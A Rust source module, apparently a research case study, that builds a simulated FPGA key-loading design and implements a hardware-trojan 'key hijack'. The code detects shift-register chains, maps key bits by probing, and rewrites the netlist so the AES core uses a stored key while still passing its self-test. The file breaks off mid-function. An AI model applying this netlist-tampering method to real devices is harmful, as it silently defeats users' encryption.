//! Key-hijack case study: recover a key-loading shift-register design,
//! learn its key schedule from behavior alone, and rewrite the netlist so
//! the cipher runs on a stored key no matter what the user loads.
//!
//! The victim design loads a 128-bit key byte-serially through 8 pads over
//! 16 cycles into 8 shift chains of 16 flip-flops (one chain per bit lane,
//! one stage per key byte), each stage passing through an identity LUT. The
//! chain outputs feed a hard AES-128 macro over dedicated connections that
//! never touch the programmable fabric and therefore leave no trace in the
//! bitstream.
//!
//! The attack works at netlist level: detect the chains structurally,
//! identify each chain's bit lane and byte order by simulation probes, then
//! replace every stage's D-input connection with a fresh constant LUT
//! holding one bit of the stored key. Bitstream-level feasibility is shown
//! separately by running the modified netlist through the mock flow and
//! converting it back (see the integration tests).

use std::collections::{BTreeMap, BTreeSet};

use crate::error::{Error, Result};
use crate::fabric::{logic_tile_name, parse_logic_tile, Coord, Fabric, BB_SITE, IOB_SITE, SLICE_SITE};
use crate::netlist::{
    parse_slice_pin, FfConfig, Instance, Net, Netlist, PinRef, SiteKind, SlicePin, TruthTable,
    IOB_PIN_IN,
};
use crate::router;
use crate::sim::{simulate, ModelRegistry, Stimulus};

pub const CHAIN_COUNT: usize = 8;
pub const STAGE_COUNT: usize = 16;
/// Minimum chain length worth reporting; shorter runs of linked registers
/// are everyday pipeline structure.
pub const MIN_CHAIN_LEN: usize = 4;

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct ChainStage {
    pub inst: String,
    pub ff: u8,
    /// The LUT driving this stage's D input, if one does. For interior
    /// stages this is the pass-through the previous stage shifts across;
    /// for the head it is the LUT the load path enters through.
    pub lut: Option<(String, u8)>,
    /// Loads on this stage's Q beyond the link into the next stage:
    /// fan-out the chain has besides shifting.
    pub taps: Vec<PinRef>,
}

/// One detected shift chain, head (load end) first.
pub type Chain = Vec<ChainStage>;

/// The design under attack, netlist plus the context a user of the board
/// would know: which pads load the key and which instance is the cipher.
#[derive(Debug, Clone)]
pub struct AesTarget {
    pub netlist: Netlist,
    /// key_pads[b] delivers bit b of every key byte.
    pub key_pads: Vec<String>,
    /// Instance name of the cipher macro.
    pub core: String,
}

/// Everything needed to check a board still answers its acceptance vector,
/// and to exercise it as a user: reference plaintext/ciphertext under the
/// stored key, plus a sample user key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SelfTestSpec {
    pub p_ref: [u8; 16],
    pub c_ref: [u8; 16],
    pub k_st: [u8; 16],
    pub k_u: [u8; 16],
}

/// Build the clean victim design and its self-test vector. `c_ref` is the
/// software encryption of `p_ref` under `k_st`; the sample user key is
/// derived from `k_st` but never equal to it.
pub fn build_aes_target(
    fabric: &Fabric,
    k_st: &[u8; 16],
    p_ref: &[u8; 16],
) -> Result<(AesTarget, SelfTestSpec)> {
    let netlist = build_target(fabric)?;
    let key_pads = (0..CHAIN_COUNT).map(|b| format!("key_pad_{b}")).collect();
    Ok((
        AesTarget { netlist, key_pads, core: "aes_core".to_string() },
        self_test_spec(k_st, p_ref),
    ))
}

/// The acceptance vector for a given stored key and reference plaintext,
/// including a sample user key derived from `k_st` but never equal to it.
pub fn self_test_spec(k_st: &[u8; 16], p_ref: &[u8; 16]) -> SelfTestSpec {
    let c_ref = crate::aes::aes128_encrypt(k_st, p_ref);
    let mut k_u = [0u8; 16];
    for i in 0..16 {
        k_u[i] = k_st[i].rotate_left(3) ^ 0xa5;
    }
    if k_u == *k_st {
        k_u[0] ^= 1;
    }
    SelfTestSpec { p_ref: *p_ref, c_ref, k_st: *k_st, k_u }
}

/// Build the clean victim netlist for a 16x16 fabric: chain b in column 2b
/// growing downward from its key pad, the odd columns left empty, and the
/// cipher macro in the far corner reading every stage over macro-only nets.
pub fn build_target(fabric: &Fabric) -> Result<Netlist> {
    if fabric.width < 16 || fabric.height < 16 {
        return Err(Error::Trojan(format!(
            "target design needs a 16x16 grid, fabric is {}x{}",
            fabric.width, fabric.height
        )));
    }
    let arity = fabric.slice.arity;
    let per_slice = fabric.slice.luts.min(fabric.slice.ffs) as usize;
    if per_slice < 4 || fabric.slice.arity < 2 {
        return Err(Error::Trojan("target design needs 4 LUT/FF pairs per slice".into()));
    }
    let rows = STAGE_COUNT / per_slice;

    let mut nl = Netlist::new("keyloader", &fabric.device_id);
    let mut bb = Instance::new("aes_core", SiteKind::Blackbox, "CLB_X15Y15", BB_SITE);
    bb.model = Some("aes128".into());
    nl.instances.push(bb);

    for b in 0..CHAIN_COUNT {
        let col = 2 * b as u16;
        nl.instances.push(Instance::new(
            &format!("key_pad_{b}"),
            SiteKind::Iob,
            &logic_tile_name(Coord::new(col, rows as u16)),
            IOB_SITE,
        ));
        for r in 0..rows {
            let mut s = Instance::new(
                &format!("chain_b{b}_r{r}"),
                SiteKind::Slice,
                &logic_tile_name(Coord::new(col, r as u16)),
                SLICE_SITE,
            );
            for i in 0..per_slice as u8 {
                s.luts.insert(i, TruthTable::identity(arity, 0));
                s.ffs.insert(i, FfConfig { used: true, init: false });
            }
            nl.instances.push(s);
        }

        // Stage 0 sits one row below the pad; deeper stages continue down.
        // LUT/FF indexes rotate per row so a tile-to-tile hop exits and
        // enters on the same interconnect lane; every hop then routes in
        // one or two pips and the columns next door stay untouched.
        let slice_of = |s: usize| format!("chain_b{b}_r{}", rows - 1 - s / per_slice);
        let idx_of =
            |s: usize| ((s % per_slice + per_slice - s / per_slice % per_slice) % per_slice) as u8;

        // Pad into the head stage's LUT.
        let mut key_net = Net::new(&format!("key_b{b}"));
        key_net.outpin = Some(PinRef::new(&format!("key_pad_{b}"), IOB_PIN_IN));
        key_net.inpins.push(PinRef::new(&slice_of(0), &format!("L{}I0", idx_of(0))));
        nl.nets.push(key_net);

        for s in 0..STAGE_COUNT {
            // Identity LUT into the stage register.
            let mut d = Net::new(&format!("d_b{b}_s{s:02}"));
            d.outpin = Some(PinRef::new(&slice_of(s), &format!("L{}O", idx_of(s))));
            d.inpins.push(PinRef::new(&slice_of(s), &format!("F{}D", idx_of(s))));
            nl.nets.push(d);

            // Stage output: next stage's LUT, plus its key byte lane into
            // the macro. Stage s holds key byte 15-s once loading ends.
            let mut q = Net::new(&format!("q_b{b}_s{s:02}"));
            q.outpin = Some(PinRef::new(&slice_of(s), &format!("F{}Q", idx_of(s))));
            if s + 1 < STAGE_COUNT {
                q.inpins.push(PinRef::new(&slice_of(s + 1), &format!("L{}I0", idx_of(s + 1))));
            }
            let byte = STAGE_COUNT - 1 - s;
            q.inpins.push(PinRef::new("aes_core", &format!("K{}", 8 * byte + b)));
            nl.nets.push(q);
        }
    }

    router::complete_routing(fabric, &mut nl)?;
    nl.canonicalize();
    nl.validate()?;
    Ok(nl)
}

/// Node key for the register-transfer graph.
type FfNode = (String, u8);

/// The LUT driving a register's D input, if any.
fn d_driver_lut(nl: &Netlist, node: &FfNode) -> Option<(String, u8)> {
    let dpin = format!("F{}D", node.1);
    for net in &nl.nets {
        if net.inpins.iter().any(|p| p.inst == node.0 && p.pin == dpin) {
            let out = net.outpin.as_ref()?;
            if nl.instance(&out.inst).map(|i| i.kind) != Some(SiteKind::Slice) {
                return None;
            }
            if let Some(SlicePin::LutOut(l)) = parse_slice_pin(&out.pin) {
                return Some((out.inst.clone(), l));
            }
            return None;
        }
    }
    None
}

/// Find shift registers: maximal register paths where each hop goes register
/// output to register input either directly or through exactly one
/// pass-through LUT, and both ends of every hop have no other chain
/// neighbor. Returns chains of at least `min_len` stages, head first, each
/// stage carrying its D-side LUT and its Q-side fan-out taps.
pub fn detect_shift_registers(nl: &Netlist, min_len: usize) -> Vec<Chain> {
    let mut used: BTreeSet<FfNode> = BTreeSet::new();
    for inst in &nl.instances {
        for (&f, cfg) in &inst.ffs {
            if cfg.used {
                used.insert((inst.name.clone(), f));
            }
        }
    }

    // Driver pin -> nets it drives (by index).
    let mut driven_by: BTreeMap<(String, String), Vec<usize>> = BTreeMap::new();
    for (ni, net) in nl.nets.iter().enumerate() {
        if let Some(out) = &net.outpin {
            driven_by.entry((out.inst.clone(), out.pin.clone())).or_default().push(ni);
        }
    }

    // For a register output, every register input it reaches over at most
    // one identity LUT.
    let reach = |node: &FfNode| -> Vec<FfNode> {
        let mut found = Vec::new();
        let Some(nets) = driven_by.get(&(node.0.clone(), format!("F{}Q", node.1))) else {
            return found;
        };
        for &ni in nets {
            for pin in &nl.nets[ni].inpins {
                let Some(inst) = nl.instance(&pin.inst) else { continue };
                if inst.kind != SiteKind::Slice {
                    continue;
                }
                match parse_slice_pin(&pin.pin) {
                    Some(SlicePin::FfD(f)) => found.push((pin.inst.clone(), f)),
                    Some(SlicePin::LutIn(l, j)) => {
                        let passes = inst
                            .luts
                            .get(&l)
                            .and_then(|t| t.identity_input())
                            .map(|idx| idx == j)
                            .unwrap_or(false);
                        if !passes {
                            continue;
                        }
                        if let Some(onets) =
                            driven_by.get(&(pin.inst.clone(), format!("L{l}O")))
                        {
                            for &oi in onets {
                                for opin in &nl.nets[oi].inpins {
                                    if let Some(SlicePin::FfD(f)) = parse_slice_pin(&opin.pin) {
                                        if nl
                                            .instance(&opin.inst)
                                            .map(|i| i.kind == SiteKind::Slice)
                                            .unwrap_or(false)
                                        {
                                            found.push((opin.inst.clone(), f));
                                        }
                                    }
                                }
                            }
                        }
                    }
                    _ => {}
                }
            }
        }
        found
    };

    let mut succ: BTreeMap<FfNode, BTreeSet<FfNode>> = BTreeMap::new();
    let mut pred: BTreeMap<FfNode, BTreeSet<FfNode>> = BTreeMap::new();
    for node in &used {
        for next in reach(node) {
            if used.contains(&next) && next != *node {
                succ.entry(node.clone()).or_default().insert(next.clone());
                pred.entry(next).or_default().insert(node.clone());
            }
        }
    }
    // A chain link needs exclusive endpoints on both sides.
    let link = |a: &FfNode| -> Option<FfNode> {
        let s = succ.get(a)?;
        if s.len() != 1 {
            return None;
        }
        let b = s.iter().next().unwrap();
        if pred.get(b).map(|p| p.len()) == Some(1) {
            Some(b.clone())
        } else {
            None
        }
    };

    // Q-side loads that are not the shift link into `next`.
    let taps_of = |node: &FfNode, next: Option<&FfNode>| -> Vec<PinRef> {
        let mut cone: BTreeSet<PinRef> = BTreeSet::new();
        if let Some(next) = next {
            cone.insert(PinRef::new(&next.0, &format!("F{}D", next.1)));
            if let Some((li, ll)) = d_driver_lut(nl, next) {
                let j = nl
                    .instance(&li)
                    .and_then(|i| i.luts.get(&ll))
                    .and_then(|t| t.identity_input());
                if let Some(j) = j {
                    cone.insert(PinRef::new(&li, &format!("L{ll}I{j}")));
                }
            }
        }
        let mut taps = Vec::new();
        if let Some(nets) = driven_by.get(&(node.0.clone(), format!("F{}Q", node.1))) {
            for &ni in nets {
                for pin in &nl.nets[ni].inpins {
                    if !cone.contains(pin) {
                        taps.push(pin.clone());
                    }
                }
            }
        }
        taps.sort();
        taps
    };

    let mut chains = Vec::new();
    for head in &used {
        // Heads have an outgoing link but no incoming one.
        let incoming = pred
            .get(head)
            .map(|p| p.iter().any(|a| link(a).as_ref() == Some(head)))
            .unwrap_or(false);
        if incoming || link(head).is_none() {
            continue;
        }
        let mut path = vec![head.clone()];
        let mut at = head.clone();
        while let Some(next) = link(&at) {
            path.push(next.clone());
            at = next;
        }
        if path.len() < min_len {
            continue;
        }
        let mut chain: Chain = Vec::with_capacity(path.len());
        for (i, node) in path.iter().enumerate() {
            chain.push(ChainStage {
                inst: node.0.clone(),
                ff: node.1,
                lut: d_driver_lut(nl, node),
                taps: taps_of(node, path.get(i + 1)),
            });
        }
        chains.push(chain);
    }
    chains.sort();
    chains
}

/// How the detected chains carry the key, learned from behavior.
#[derive(Debug, Clone)]
pub struct KeyWiring {
    /// pads[b] delivers key bit b of every byte.
    pub pads: Vec<String>,
    /// chain_bit[c] = bit lane of chains[c].
    pub chain_bit: Vec<u8>,
    /// stage_byte[c][s] = key byte held by stage s of chain c at use time.
    pub stage_byte: Vec<Vec<u8>>,
    /// Instance name of the cipher macro.
    pub bb: String,
}

impl KeyWiring {
    /// The full register-to-key-cell map: FF -> (key byte, bit).
    pub fn key_bit_map(&self, chains: &[Chain]) -> BTreeMap<(String, u8), (u8, u8)> {
        let mut map = BTreeMap::new();
        for (c, chain) in chains.iter().enumerate() {
            for (s, stage) in chain.iter().enumerate() {
                map.insert(
                    (stage.inst.clone(), stage.ff),
                    (self.stage_byte[c][s], self.chain_bit[c]),
                );
            }
        }
        map
    }
}

fn pack_bits(trace: &BTreeMap<(String, String), bool>, bb: &str) -> [u8; 16] {
    let mut out = [0u8; 16];
    for i in 0..128 {
        if trace[&(bb.to_string(), format!("C{i}"))] {
            out[i / 8] |= 1 << (i % 8);
        }
    }
    out
}

fn c_probes(bb: &str) -> Vec<(String, String)> {
    (0..128).map(|i| (bb.to_string(), format!("C{i}"))).collect()
}

/// Load `key` byte-serially through `pads` (pads[b] carries bit b, cycle m
/// carries byte m), then raise GO with `pt` applied and read the ciphertext.
pub fn encrypt_on_device(
    nl: &Netlist,
    reg: &ModelRegistry,
    bb: &str,
    pads: &[String],
    key: &[u8; 16],
    pt: &[u8; 16],
) -> Result<[u8; 16]> {
    let mut stim: Vec<Stimulus> = Vec::with_capacity(STAGE_COUNT + 1);
    for m in 0..STAGE_COUNT {
        let mut s = Stimulus::new();
        for (b, pad) in pads.iter().enumerate() {
            s.insert((pad.clone(), IOB_PIN_IN.to_string()), key[m] >> b & 1 == 1);
        }
        stim.push(s);
    }
    let mut last = Stimulus::new();
    for pad in pads {
        last.insert((pad.clone(), IOB_PIN_IN.to_string()), false);
    }
    last.insert((bb.to_string(), "GO".to_string()), true);
    for i in 0..128 {
        last.insert((bb.to_string(), format!("P{i}")), pt[i / 8] >> (i % 8) & 1 == 1);
    }
    stim.push(last);

    let out = simulate(nl, reg, &stim, &c_probes(bb))?;
    Ok(pack_bits(&out.trace[STAGE_COUNT], bb))
}

/// The pad driving a chain head's LUT input.
fn pad_of(nl: &Netlist, head_lut: &(String, u8)) -> Option<String> {
    let inst = nl.instance(&head_lut.0)?;
    let j = inst.luts.get(&head_lut.1).and_then(|t| t.identity_input())?;
    for net in &nl.nets {
        if net
            .inpins
            .iter()
            .any(|p| p.inst == head_lut.0 && p.pin == format!("L{}I{}", head_lut.1, j))
        {
            let out = net.outpin.as_ref()?;
            let drv = nl.instance(&out.inst)?;
            if drv.kind == SiteKind::Iob && out.pin == IOB_PIN_IN {
                return Some(out.inst.clone());
            }
        }
    }
    None
}

/// Learn which chain carries which key bit lane and which stage holds which
/// byte, purely from input/output behavior.
///
/// Each chain is identified by muting its head LUT and loading all-ones:
/// the ciphertext then matches exactly one of eight precomputed tables, one
/// per bit lane cleared in every byte. A second probe with only the first
/// byte zeroed fixes the byte order. Finally all 128 single-bit patterns
/// are replayed and must each produce the ciphertext of the matching
/// single-bit key, confirming the full map. All probes run on throwaway
/// copies; the netlist handed in is never modified.
pub fn correlate_key_bits(
    nl: &Netlist,
    reg: &ModelRegistry,
    chains: &[Chain],
    bb: &str,
    pt: &[u8; 16],
) -> Result<KeyWiring> {
    if chains.len() != CHAIN_COUNT || chains.iter().any(|c| c.len() != STAGE_COUNT) {
        return Err(Error::Trojan(format!(
            "expected {CHAIN_COUNT} chains of {STAGE_COUNT} stages, found {:?}",
            chains.iter().map(|c| c.len()).collect::<Vec<_>>()
        )));
    }
    if nl.instance(bb).map(|i| i.kind) != Some(SiteKind::Blackbox) {
        return Err(Error::Trojan(format!("{bb:?} is not a macro instance")));
    }

    // Structural pad discovery; everything after this is behavioral.
    let mut chain_pad: Vec<String> = Vec::new();
    let mut chain_head_lut: Vec<(String, u8)> = Vec::new();
    for chain in chains {
        let lut = chain[0].lut.clone().ok_or_else(|| {
            Error::Trojan(format!("chain head {}.F{} has no LUT driver", chain[0].inst, chain[0].ff))
        })?;
        let pad = pad_of(nl, &lut).ok_or_else(|| {
            Error::Trojan(format!(
                "correlation failed: no pad reaches chain head {}.F{}",
                chain[0].inst, chain[0].ff
            ))
        })?;
        chain_pad.push(pad);
        chain_head_lut.push(lut);
    }

    let aes = |key: &[u8; 16]| crate::aes::aes128_encrypt(key, pt);
    let all_ones = [0xffu8; 16];

    // Sanity: the untouched design must encrypt with what it loads.
    let base = encrypt_on_device(nl, reg, bb, &chain_pad, &all_ones, pt)?;
    if base != aes(&all_ones) {
        return Err(Error::Trojan(
            "correlation failed: design does not encrypt with the loaded key".into(),
        ));
    }

    // Bit lane per chain: mute one chain, match against the eight tables.
    let tables: Vec<[u8; 16]> = (0..8)
        .map(|b| {
            let mut k = all_ones;
            for byte in k.iter_mut() {
                *byte &= !(1 << b);
            }
            aes(&k)
        })
        .collect();
    let mut chain_bit = vec![0u8; CHAIN_COUNT];
    let mut seen_bits = BTreeSet::new();
    for (c, lut) in chain_head_lut.iter().enumerate() {
        let mut muted = nl.clone();
        let arity = muted.instance(&lut.0).unwrap().luts[&lut.1].arity;
        muted.instance_mut(&lut.0).unwrap().luts.insert(lut.1, TruthTable::zero(arity));
        let ct = encrypt_on_device(&muted, reg, bb, &chain_pad, &all_ones, pt)?;
        let hit = tables.iter().position(|t| *t == ct).ok_or_else(|| {
            Error::Trojan(format!(
                "correlation failed: muting chain {c} matched no bit-lane table"
            ))
        })?;
        chain_bit[c] = hit as u8;
        if !seen_bits.insert(hit) {
            return Err(Error::Trojan(format!(
                "correlation failed: two chains map to bit lane {hit}"
            )));
        }
    }
    let mut pads = vec![String::new(); 8];
    for c in 0..CHAIN_COUNT {
        pads[chain_bit[c] as usize] = chain_pad[c].clone();
    }

    // Byte order: zero only the first loaded byte on one lane and see which
    // end of the key it lands on.
    let mut stage_byte = vec![vec![0u8; STAGE_COUNT]; CHAIN_COUNT];
    {
        let b = chain_bit[0];
        let mut first_zero = all_ones;
        first_zero[0] &= !(1 << b);
        let mut last_zero = all_ones;
        last_zero[15] &= !(1 << b);
        let ct = encrypt_on_device(nl, reg, bb, &pads, &first_zero, pt)?;
        let deep_is_byte0 = if ct == aes(&first_zero) {
            true
        } else if ct == aes(&last_zero) {
            false
        } else {
            return Err(Error::Trojan(
                "correlation failed: byte-order probe matched neither orientation".into(),
            ));
        };
        for sb in stage_byte.iter_mut() {
            for (s, slot) in sb.iter_mut().enumerate() {
                // The first-loaded byte sits in the deepest stage.
                *slot = if deep_is_byte0 { (STAGE_COUNT - 1 - s) as u8 } else { s as u8 };
            }
        }
    }

    // Confirm all 128 positions.
    let mut confirmed = 0usize;
    for m in 0..STAGE_COUNT {
        for b in 0..8u8 {
            let mut k = all_ones;
            k[m] &= !(1 << b);
            let ct = encrypt_on_device(nl, reg, bb, &pads, &k, pt)?;
            if ct == aes(&k) {
                confirmed += 1;
            }
        }
    }
    if confirmed != 128 {
        return Err(Error::Trojan(format!(
            "correlation failed: only {confirmed}/128 single-bit probes behaved as mapped"
        )));
    }

    // The map must cover every (byte, bit) cell exactly once.
    let mut cells = BTreeSet::new();
    for c in 0..CHAIN_COUNT {
        for s in 0..STAGE_COUNT {
            if !cells.insert((stage_byte[c][s], chain_bit[c])) {
                return Err(Error::Trojan("key map is not a bijection".into()));
            }
        }
    }
    if cells.len() != 128 {
        return Err(Error::Trojan("key map does not cover the key".into()));
    }

    Ok(KeyWiring { pads, chain_bit, stage_byte, bb: bb.to_string() })
}

/// Re-attach context that leaves no bitstream trace: macro instances and
/// their dedicated nets, matched to recovered instances by placed position,
/// and original pad names for recovered pads.
pub fn graft(recovered: &Netlist, reference: &Netlist) -> Result<Netlist> {
    let mut out = recovered.clone();

    // Position index over the recovered design.
    let mut at: BTreeMap<(String, String), String> = BTreeMap::new();
    for inst in &out.instances {
        at.insert((inst.tile.clone(), inst.site.clone()), inst.name.clone());
    }

    // Adopt reference pad names.
    for rinst in &reference.instances {
        if rinst.kind != SiteKind::Iob {
            continue;
        }
        let key = (rinst.tile.clone(), rinst.site.clone());
        match at.get(&key) {
            Some(old) if *old != rinst.name => {
                let old = old.clone();
                if out.instance(&rinst.name).is_some() {
                    return Err(Error::Trojan(format!(
                        "cannot rename pad {old:?}: {:?} already exists",
                        rinst.name
                    )));
                }
                out.instance_mut(&old).unwrap().name = rinst.name.clone();
                for net in &mut out.nets {
                    if let Some(p) = &mut net.outpin {
                        if p.inst == old {
                            p.inst = rinst.name.clone();
                        }
                    }
                    for p in &mut net.inpins {
                        if p.inst == old {
                            p.inst = rinst.name.clone();
                        }
                    }
                }
                at.insert(key, rinst.name.clone());
            }
            Some(_) => {}
            None => {
                // Pad unused by the recovered fabric content; add it so
                // external stimulus still has somewhere to go.
                out.instances.push(rinst.clone());
                at.insert(key, rinst.name.clone());
            }
        }
    }

    // Macro instances carry no configuration bits; copy them over.
    for rinst in &reference.instances {
        if rinst.kind != SiteKind::Blackbox {
            continue;
        }
        if out.instance(&rinst.name).is_some() {
            return Err(Error::Trojan(format!("instance {:?} already exists", rinst.name)));
        }
        out.instances.push(rinst.clone());
        at.insert((rinst.tile.clone(), rinst.site.clone()), rinst.name.clone());
    }

    // Map a reference pin to the recovered instance at the same position.
    let map_pin = |pin: &PinRef| -> Result<PinRef> {
        let rinst = reference
            .instance(&pin.inst)
            .ok_or_else(|| Error::Trojan(format!("reference pin on unknown instance {:?}", pin.inst)))?;
        let name = at
            .get(&(rinst.tile.clone(), rinst.site.clone()))
            .ok_or_else(|| {
                Error::Trojan(format!(
                    "nothing recovered at {} {} for {}.{}",
                    rinst.tile, rinst.site, pin.inst, pin.pin
                ))
            })?;
        Ok(PinRef::new(name, &pin.pin))
    };

    let is_bb =
        |pin: &PinRef| reference.instance(&pin.inst).map(|i| i.kind) == Some(SiteKind::Blackbox);

    for rnet in &reference.nets {
        let bb_loads: Vec<&PinRef> = rnet.inpins.iter().filter(|p| is_bb(p)).collect();
        let bb_drives = rnet.outpin.as_ref().map(|p| is_bb(p)).unwrap_or(false);
        if bb_loads.is_empty() && !bb_drives {
            continue;
        }
        if bb_drives {
            // Macro output into the fabric: restore loads that exist.
            let out_pin = map_pin(rnet.outpin.as_ref().unwrap())?;
            let mut net = Net::new(&rnet.name);
            net.outpin = Some(out_pin);
            for load in &rnet.inpins {
                net.inpins.push(map_pin(load)?);
            }
            out.nets.push(net);
            continue;
        }
        let Some(rdriver) = rnet.outpin.as_ref() else { continue };
        let driver = map_pin(rdriver)?;
        let loads: Vec<PinRef> =
            bb_loads.iter().map(|p| map_pin(p)).collect::<Result<_>>()?;
        let existing = out.nets.iter_mut().find(|n| n.outpin.as_ref() == Some(&driver));
        match existing {
            Some(net) => {
                for l in loads {
                    if !net.inpins.contains(&l) {
                        net.inpins.push(l);
                    }
                }
            }
            None => {
                // The driver's net had no fabric content, so conversion
                // never saw it; reinstate it as a macro-only net.
                let mut net = Net::new(&rnet.name);
                net.outpin = Some(driver);
                net.inpins = loads;
                out.nets.push(net);
            }
        }
    }

    out.canonicalize();
    out.validate()?;
    Ok(out)
}

/// Rewrite the netlist so every mapped register is fed by a fresh constant
/// LUT holding its bit of `k_st`, detaching it from the loading path.
///
/// Per stage: the net driving the register's D input loses that connection
/// and all its routing, a new LUT programmed to the constant goes into a
/// free site nearby, and a new net ties its output to the D input. The
/// displaced wire is reused as the constant LUT's (ignored) input, so the
/// old loading logic stays placed but feeds nothing that matters. Nothing
/// else changes: any net not driving a mapped D input comes through
/// byte-identical in canonical form. The new nets carry no routing; run
/// them through the router before handing the result to the toolchain.
pub fn insert_payload(
    fabric: &Fabric,
    nl: &Netlist,
    chains: &[Chain],
    wiring: &KeyWiring,
    k_st: &[u8; 16],
) -> Result<Netlist> {
    if chains.len() != wiring.chain_bit.len() || chains.len() != wiring.stage_byte.len() {
        return Err(Error::Trojan("key map does not match the chain list".into()));
    }
    let arity = fabric.slice.arity;
    let mut out = nl.clone();

    // Existing slice occupancy, by tile.
    let mut slice_at: BTreeMap<String, String> = BTreeMap::new();
    for inst in &out.instances {
        if inst.kind == SiteKind::Slice {
            slice_at.insert(inst.tile.clone(), inst.name.clone());
        }
    }
    let mut lut_used: BTreeSet<(String, u8)> = BTreeSet::new();
    for inst in &out.instances {
        for &l in inst.luts.keys() {
            lut_used.insert((inst.name.clone(), l));
        }
    }
    for net in &out.nets {
        if let Some(p) = &net.outpin {
            if let Some(SlicePin::LutOut(l)) = parse_slice_pin(&p.pin) {
                lut_used.insert((p.inst.clone(), l));
            }
        }
    }

    let mut new_luts = 0usize;
    for (c, chain) in chains.iter().enumerate() {
        if chain.len() != wiring.stage_byte[c].len() {
            return Err(Error::Trojan("key map does not match the chain list".into()));
        }
        for (s, stage) in chain.iter().enumerate() {
            let byte = wiring.stage_byte[c][s];
            let bit = wiring.chain_bit[c];
            let value = k_st[byte as usize] >> bit & 1 == 1;
            let dpin = PinRef::new(&stage.inst, &format!("F{}D", stage.ff));

            // Exactly one net may feed the D input.
            let feeders: Vec<usize> = out
                .nets
                .iter()
                .enumerate()
                .filter(|(_, n)| n.inpins.contains(&dpin))
                .map(|(i, _)| i)
                .collect();
            if feeders.len() != 1 {
                return Err(Error::Trojan(format!(
                    "{}.{} has {} driving nets, expected 1",
                    dpin.inst,
                    dpin.pin,
                    feeders.len()
                )));
            }
            let dnet = feeders[0];
            out.nets[dnet].inpins.retain(|p| *p != dpin);
            out.nets[dnet].pips.clear();

            let home = out
                .instance(&stage.inst)
                .and_then(|i| parse_logic_tile(&i.tile))
                .ok_or_else(|| {
                    Error::Trojan(format!("stage {} is not on a logic tile", stage.inst))
                })?;
            let (pinst, plut) =
                payload_site(fabric, &mut out, &mut slice_at, &lut_used, home, stage.ff)?;
            lut_used.insert((pinst.clone(), plut));
            out.instance_mut(&pinst)
                .unwrap()
                .luts
                .insert(plut, TruthTable::constant(arity, value));
            new_luts += 1;

            // The displaced wire becomes the constant's ignored input.
            out.nets[dnet].inpins.push(PinRef::new(&pinst, &format!("L{plut}I0")));

            let mut pnet = Net::new(&format!("pl_bit{bit}_byte{byte:02}"));
            pnet.outpin = Some(PinRef::new(&pinst, &format!("L{plut}O")));
            pnet.inpins.push(dpin);
            out.nets.push(pnet);
        }
    }

    let expected: usize = chains.iter().map(|c| c.len()).sum();
    if new_luts != expected {
        return Err(Error::Trojan(format!(
            "planted {new_luts} constants for {expected} stages"
        )));
    }
    out.canonicalize();
    out.validate()?;
    Ok(out)
}

/// A free LUT position near `home` for one payload constant, creating a new
/// slice instance when the chosen tile has none. Prefers the stage's own
/// index so each register's constant sits in the matching lane next door.
fn payload_site(
    fabric: &Fabric,
    out: &mut Netlist,
    slice_at: &mut BTreeMap<String, String>,
    lut_used: &BTreeSet<(String, u8)>,
    home: Coord,
    prefer: u8,
) -> Result<(String, u8)> {
    let mut order: Vec<u8> = (0..fabric.slice.luts).collect();
    order.retain(|&i| i != prefer);
    order.insert(0, prefer);

    for (dx, dy) in [(1i32, 0i32), (-1, 0), (0, 1), (0, -1), (0, 0)] {
        let (nx, ny) = (home.x as i32 + dx, home.y as i32 + dy);
        if nx < 0 || ny < 0 {
            continue;
        }
        let nc = Coord::new(nx as u16, ny as u16);
        if !fabric.in_grid(nc) {
            continue;
        }
        let tile = logic_tile_name(nc);
        let existing = slice_at.get(&tile).cloned();
        for &l in &order {
            let free = match &existing {
                Some(name) => !lut_used.contains(&(name.clone(), l)),
                None => true,
            };
            if !free {
                continue;
            }
            let name = match existing {
                Some(name) => name,
                None => {
                    let name = format!("payload_X{}Y{}", nc.x, nc.y);
                    if out.instance(&name).is_some() {
                        return Err(Error::Trojan(format!("instance {name:?} already exists")));
                    }
                    out.instances.push(Instance::new(&name, SiteKind::Slice, &tile, SLICE_SITE));
                    slice_at.insert(tile.clone(), name.clone());
                    name
                }
            };
            return Ok((name, l));
        }
    }
    Err(Error::Trojan(format!("no free LUT near {} for a payload bit", logic_tile_name(home))))
}

/// Does the board still answer its acceptance vector? Loads the stored key
/// through the pads and compares the ciphertext against the reference.
pub fn self_test(
    nl: &Netlist,
    reg: &ModelRegistry,
    pads: &[String],
    core: &str,
    spec: &SelfTestSpec,
) -> Result<bool> {
    Ok(encrypt_on_device(nl, reg, core, pads, &spec.k_st, &spec.p_ref)? == spec.c_ref)
}

/// One trial where the device's answer differs from honest encryption under
/// the loaded key: the evidence a suspicious user would need.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Counterexample {
    pub user_key: [u8; 16],
    pub plaintext: [u8; 16],
    pub device_ciphertext: [u8; 16],
    pub honest_ciphertext: [u8; 16],
}

#[derive(Debug, Clone)]
pub struct StealthReport {
    /// The board still answers its acceptance vector.
    pub self_test_pass: bool,
    /// Trials whose ciphertext matched encryption under the stored key.
    pub hijacked: usize,
    pub trials: usize,
    /// Trials whose random user key equalled the stored key; those reveal
    /// nothing either way and are flagged rather than counted as evidence.
    pub degenerate: usize,
    /// First trial where the device disagreed with honest encryption, if
    /// any. Expected on a compromised part, absent on a clean one.
    pub counterexample: Option<Counterexample>,
}

/// Exercise the device as a user would: load `trials` random keys and
/// encrypt random plaintexts, comparing each answer against honest AES
/// under the loaded key and under the stored key. Trials are independent
/// and run in parallel; the trial set is fixed by `seed`.
pub fn stealth_report(
    nl: &Netlist,
    reg: &ModelRegistry,
    pads: &[String],
    core: &str,
    spec: &SelfTestSpec,
    trials: usize,
    seed: u64,
) -> Result<StealthReport> {
    use rand::{RngCore, SeedableRng};
    use rayon::prelude::*;

    let self_test_pass = self_test(nl, reg, pads, core, spec)?;

    let mut rng = rand_chacha::ChaCha20Rng::seed_from_u64(seed);
    let mut cases: Vec<([u8; 16], [u8; 16])> = Vec::with_capacity(trials);
    for _ in 0..trials {
        let mut k = [0u8; 16];
        let mut p = [0u8; 16];
        rng.fill_bytes(&mut k);
        rng.fill_bytes(&mut p);
        cases.push((k, p));
    }

    let outcomes: Vec<(bool, bool, Option<Counterexample>)> = cases
        .par_iter()
        .map(|(k, p)| -> Result<(bool, bool, Option<Counterexample>)> {
